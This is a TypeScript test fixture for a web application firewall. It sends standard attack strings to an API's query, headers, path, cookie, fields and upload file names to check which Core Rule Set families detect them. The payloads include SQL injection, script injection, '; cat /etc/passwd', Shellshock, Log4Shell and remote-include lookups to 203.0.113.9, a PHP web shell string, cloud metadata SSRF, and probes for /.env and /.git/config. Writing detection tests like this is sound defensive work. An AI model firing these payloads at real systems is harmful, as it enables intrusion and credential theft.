/** Attacks of every class of the core rule set, each in the places where its rules look. */
import type { Request } from "./programs.ts";
import { get, post, upload } from "./requests.ts";

/** Puts a text somewhere into a request. A field that is excluded nowhere stands for all of those. */
const places = {
  query: (text) => get(`/api/v1/analytics/reports?filter=${encodeURIComponent(text)}`),
  header: (text) => get("/api/v1/cases", [["referer", text]]),
  path: (text) => get(`/api/v1/cases/${encodeURIComponent(text)}`),
  cookie: (text) => get("/api/v1/cases", [["cookie", `theme=${encodeURIComponent(text)}`]]),
  field: (text) => post("/api/v1/cases", { title: text }),
  "file name": (text) => upload("/api/v1/cases/4711/attachments", text.replaceAll('"', "%22"), "hello"),
} satisfies Record<string, (text: string) => Request>;

type Place = keyof typeof places;

interface Attack {
  text: string;
  places: Place[];
  /** The file of the set whose rules see it; a file name is refused by our own. */
  family: number;
}

const classes: Record<string, Attack> = {
  SQL: { text: "1' OR '1'='1' -- ", places: ["query", "header", "cookie", "field", "file name"], family: 942 },
  "SQL, a union": {
    text: "1 UNION SELECT username, password FROM users",
    places: ["query", "cookie", "field"],
    family: 942,
  },
  "a script": {
    text: "<img src=x onerror=alert(1)>",
    places: ["query", "header", "path", "cookie", "field", "file name"],
    family: 941,
  },
  "a shell": { text: "; cat /etc/passwd", places: ["query", "field", "file name"], family: 932 },
  Shellshock: { text: "() { :; }; /bin/id", places: ["query", "header", "field", "file name"], family: 932 },
  "a file of the server": {
    text: "../../../../etc/passwd",
    places: ["query", "path", "cookie", "field", "file name"],
    family: 930,
  },
  "a file from elsewhere": { text: "http://203.0.113.9/shell.txt?", places: ["query", "field"], family: 931 },
  PHP: {
    text: "<?php system($_GET['c']); ?>",
    places: ["query", "path", "cookie", "field", "file name"],
    family: 933,
  },
  Log4Shell: {
    text: "${jndi:ldap://203.0.113.9/a}",
    places: ["query", "header", "path", "cookie", "field", "file name"],
    family: 944,
  },
  Java: {
    text: "java.lang.Runtime.getRuntime().exec('id')",
    places: ["query", "header", "cookie", "field"],
    family: 944,
  },
  Node: { text: "require('child_process').exec('id')", places: ["query", "path", "cookie", "field"], family: 934 },
  "a prototype": { text: "__proto__[admin]=1", places: ["query", "cookie", "field"], family: 934 },
  "a template": { text: "<%= system('id') %>", places: ["query", "path", "field"], family: 933 },
  "a request of the server": {
    text: "http://169.254.169.254/latest/meta-data/",
    places: ["query", "field", "file name"],
    family: 934,
  },
  "a session": { text: ".cookie;domain=evil.example", places: ["query", "cookie", "field", "file name"], family: 943 },
  "a header": { text: "x\r\nSet-Cookie: session=1", places: ["query", "path", "cookie", "field"], family: 921 },
  LDAP: { text: "*)(uid=*))(|(uid=*", places: ["query", "field"], family: 921 },
  "a null byte": { text: "a\0b", places: ["query", "path", "field"], family: 920 },
};

const named = (agent: string): Request => {
  const request = get("/");
  return { ...request, headers: request.headers.map(([name, value]) => [name, name === "user-agent" ? agent : value]) };
};

const whole: [what: string, request: Request, family: number][] = [
  ["a scanner", named("sqlmap/1.8"), 913],
  ["a method that the API has not", { ...get("/api/v1/cases"), method: "TRACE" }, 911],
  ["a body of GET", { ...post("/api/v1/cases", { page: 1 }), method: "GET" }, 920],
  ["a type of body that nobody reads", post("/api/v1/cases", "title=x", "text/plain"), 920],
  ["history of Git", get("/.git/config"), 930],
  ["an environment", get("/.env"), 930],
  ["a page of PHP", upload("/api/v1/cases/4711/attachments", "shell.php", "x"), 933],
  ["a page of Java", upload("/api/v1/cases/4711/attachments", "shell.jsp", "x"), 944],
  ["settings of Apache", upload("/api/v1/cases/4711/attachments", ".htaccess", "x"), 932],
];

/** Each with what it is, and the file of the set that sees it; 0 where a rule of our own does. */
export const attacks: [what: string, request: Request, family: number][] = [
  ...Object.entries(classes).flatMap(([name, { text, places: where, family }]) =>
    where.map((place): [string, Request, number] => [
      `${name} in a ${place}`,
      places[place](text),
      place === "file name" ? 0 : family,
    ]),
  ),
  ...whole,
];
